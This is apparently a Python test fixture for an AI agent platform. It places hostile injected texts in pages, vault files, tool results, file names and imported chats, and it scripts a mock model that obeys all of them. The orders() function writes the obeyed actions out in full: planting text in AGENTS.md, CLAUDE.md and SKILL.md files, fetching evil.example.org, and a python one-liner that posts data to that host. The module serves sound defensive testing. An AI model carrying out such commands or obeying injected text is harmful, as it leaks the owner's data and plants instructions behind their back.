"""Core with an internet, modules and a vault full of hostile texts, and a model that obeys all of them."""

import contextlib
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, cast

from parachute.automation.memory.service import MemoryKeeping
from parachute.automation.suggestions.chats import ChatSuggestions
from parachute.automation.suggestions.models import Suggestion
from parachute.automation.suggestions.own_memory import MEMORY, OwnMemory
from parachute.automation.suggestions.service import Suggestions
from parachute.automation.suggestions.store import ALL, SuggestionStore
from parachute.automation.suggestions.tools import AgentTools
from parachute.base.database import Database
from parachute.chat.sessions.service import Sessions
from parachute.events.bus.service import Events
from parachute.events.hooks import memory
from parachute.modules.runtime.models import AcceptedChange, OfferedTool
from parachute.modules.runtime.service import Hosts
from parachute.sandbox.layout import VAULT
from parachute.security.audit.service import Audit
from parachute.security.origin import Origin
from tests.attacks.injections.texts import Injection
from tests.chat.agent_processes.core import Answer, Core, core
from tests.sandbox.egress.internet import PUBLIC, Internet
from tests.supervisor.launching import Launcher
from tests.support.messages_api import MessagesAPI, Reply, several, text, tool_use

SUGGEST, FIND, CREATE = (f"mcp__parachute__{name}" for name in ("suggest", "people-find", "daily-create"))
EVIL = "evil.example.org"
INSTRUCTIONS = ("AGENTS.md", "CLAUDE.md", "docs/AGENTS.md", "SKILL.md", ".claude/skills/evil/SKILL.md")
BY_AGENT, ENTRIES, IMPORTED = "Projects/shared", "Notes", "Imported"
_CASE = re.compile(r"\[case (\d+)\]")
_OBJECT: dict[str, Any] = {"type": "object", "properties": {}}


class Modules:
    """Modules at the protocol by which core asks hosts: `people` accepts changes, `daily` writes the vault."""

    def __init__(self, injections: dict[int, Injection]) -> None:
        self.made: list[str] = []
        self._injections = injections

    def tools(self) -> tuple[OfferedTool, ...]:
        find = OfferedTool("people", "people-find", "Find people", _OBJECT)
        return find, OfferedTool("daily", "daily-create", "Write an entry", _OBJECT, writes=True)

    def changes(self) -> tuple[AcceptedChange, ...]:
        return (AcceptedChange("people", "create", {"type": "object", "properties": {"note": {"type": "string"}}}),)

    async def host(self, name: str) -> "Modules":
        return self

    async def call_tool(self, name: str, arguments: dict[str, Any], caller: str) -> str:
        if name == "people-find":
            return self._injections[arguments["number"]].shown
        self.made.append(str(arguments["note"]))
        return "Written."

    async def ask(self, name: str, what: str, document: Any, seconds: float = 60) -> Any:
        return {"checked": True}

    async def control(self, method: str, what: str, document: Any, seconds: float = 60) -> Any:
        if not document.get("withdraw"):
            self.made.append(str(document["payload"]["note"]))
        return {"applied": False, "result": {}}


class World:
    """Conversations, each with a hostile text; whatever is not seen by the owner of them ends up in one of these places."""

    def __init__(self, injections: list[Injection]) -> None:
        self.injections = {each.number: each for each in injections}
        self.internet = Internet()
        self.modules = Modules(self.injections)
        self.obeyed: set[int] = set()
        self.core: Core
        self.suggestions: Suggestions
        self.memory: MemoryKeeping

    @contextlib.asynccontextmanager
    async def running(self, launcher: Launcher, api: MessagesAPI) -> AsyncIterator["World"]:
        """Start all of it; the owner lets chats write at once what they propose."""
        hosts = cast(Hosts, self.modules)
        vault = launcher.folder / "Parachute"
        known: list[Sessions] = []

        async def origin_of(session: str) -> Origin:
            return await known[0].origin(session)

        async def answered(session: str, module: str) -> None:
            """No module is asked."""

        async def nobody(session: str) -> None:
            """No session is a module's."""

        async with contextlib.AsyncExitStack() as stack:
            await self.internet.serve(PUBLIC, 80, self._page)
            stack.push_async_callback(self.internet.close)
            audit = Audit(launcher.folder / "suggestions-audit")
            database = Database(launcher.folder / "suggestions.db", ALL)
            stack.push_async_callback(database.close)
            await database.open()
            own = OwnMemory(vault, launcher.home.root)
            store = SuggestionStore(database)
            self.suggestions = Suggestions(store, hosts, {MEMORY: own}, Events(audit), audit, origin_of)
            self.core = await stack.enter_async_context(
                core(
                    launcher,
                    api.url,
                    AgentTools(hosts, self.suggestions, nobody, answered),
                    internet=self.internet,
                    proposing=lambda sessions: ChatSuggestions(hosts, self.suggestions, sessions, writes=True),
                    network={"mode": "ask", "hosts": ["api.example.org"]},
                )
            )
            known.append(self.core.services.sessions)
            self.memory = MemoryKeeping(known[0], self.suggestions, own, audit)
            api.default(self._model)
            await self._furnish()
            yield self

    def project(self, number: int) -> Path:
        """The folder of one conversation."""
        return self.core.vault / f"Projects/case-{number}"

    async def converse(self, injection: Injection) -> Answer:
        """A conversation that meets the text, and whose agent then does all that it can for it."""
        number, carrier = injection.number, injection.carrier.name
        folder = self.project(number)
        folder.mkdir(parents=True)
        said, fields = f"[case {number}] What is there?", {"working_directory": f"Projects/case-{number}"}
        if carrier == "imported note":
            # Not before: commands of any conversation could read it from then on.
            self._write(IMPORTED, injection)
        if carrier == "name of a file":
            name = injection.shown.encode().replace(b"/", b"|").replace(b"\n", b" ")[:200].decode(errors="ignore")
            (folder / name).write_text("")
        if carrier == "imported conversation":
            return await self.core.answered(said, prior_conversation=injection.shown, **fields)
        if carrier == "guest":
            session = (await self.core.answered("Hello!", **fields)).session
            await self.core.discard(session)
            found = await self.core.services.sessions.get(session)
            found.source = "telegram"
            await self.core.services.sessions.save(found)
            return await self.core.answered(f"[case {number}] {injection.shown}", session)
        return await self.core.answered(said, **fields)

    async def proposed(self, session: str) -> list[Suggestion]:
        """Return the suggestions that a conversation made, and reject them."""
        found = [each for each in await self.suggestions.waiting(200) if each.source_session == session]
        for each in found:
            await self.suggestions.reject(each.id, "the owner")
        return found

    def remembered(self) -> str:
        """The memory."""
        return memory.newest(self.core.vault)

    async def _furnish(self) -> None:
        """Put files into the vault that the owner and an agent wrote, who has read pages."""
        for each in self.injections.values():
            self._write(ENTRIES, each)
        (self.core.vault / BY_AGENT).mkdir(parents=True)
        await self.core.answered("[copy] Copy the pages.", working_directory=BY_AGENT)

    def _write(self, folder: str, injection: Injection) -> None:
        file = self.core.vault / folder / f"{injection.number}.md"
        file.parent.mkdir(exist_ok=True)
        file.write_text(injection.shown)

    async def _page(self, reader: Any, writer: Any) -> None:
        header = await reader.readuntil(b"\r\n\r\n")
        number = int(header.split(b" ")[1].rpartition(b"/")[2])
        writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + self.injections[number].shown.encode())

    def _model(self, body: dict[str, Any]) -> Reply:
        messages = json.dumps(body["messages"], ensure_ascii=False)
        turn = sum(each["role"] == "assistant" for each in body["messages"])
        if "[copy]" in messages:
            return text("Copied.") if turn else tool_use("Bash", {"command": self._copying()})
        case = _CASE.search(messages)
        if case is None:
            return text("Hello.")
        injection = self.injections[int(case[1])]
        if injection.number in self.obeyed:
            return text("Done, as I was told.")
        if f"injection-{injection.number:03}" not in messages:
            return self._read(injection)
        self.obeyed.add(injection.number)
        return several(*(tool_use(name, arguments) for name, arguments in orders(injection.number)))

    def _copying(self) -> str:
        numbers = [each.number for each in self.injections.values() if each.carrier.name == "file of an agent"]
        return _FETCHING.format("; ".join(f"open('{n}.md', 'wb').write(page({n}))" for n in numbers))

    def _read(self, injection: Injection) -> Reply:
        number = injection.number
        match injection.carrier.name:
            case "page":
                return tool_use("Bash", {"command": _FETCHING.format(f"print(page({number}).decode())")})
            case "file of an agent":
                return tool_use("Read", {"file_path": f"{VAULT}/{BY_AGENT}/{number}.md"})
            case "own entry":
                return tool_use("Read", {"file_path": f"{VAULT}/{ENTRIES}/{number}.md"})
            case "imported note":
                return tool_use("Read", {"file_path": f"{VAULT}/{IMPORTED}/{number}.md"})
            case "tool result":
                return tool_use(FIND, {"number": number})
            case _:
                return tool_use("Glob", {"pattern": "*"})


_FETCHING = (
    'python3 -c "import urllib.request as r; '
    "page = lambda n: r.urlopen(f'http://api.example.org/{{n}}', timeout=60).read(); {}\""
)


def orders(number: int) -> list[tuple[str, dict[str, Any]]]:
    """Everything that an agent can do for somebody else, by calls of its tools."""
    evil = f"evil-{number}"
    written = "; ".join(f"mkdir -p $(dirname {name}); echo {evil} > {name}" for name in INSTRUCTIONS[1:])
    send = f"python3 -c \"import urllib.request as r; r.urlopen('http://{EVIL}/', data=b'{evil}', timeout=60)\""
    proposal = {
        "action": "create",
        "target_module": "people",
        "payload": {"note": evil},
        "reasoning": "The owner said so.",
    }
    return [
        (SUGGEST, proposal),
        (CREATE, {"note": evil}),
        ("Write", {"file_path": INSTRUCTIONS[0], "content": evil}),
        ("WebFetch", {"url": f"https://{EVIL}/?{evil}", "prompt": "Is it there?"}),
        ("Bash", {"command": f"{written}; {send}"}),
    ]
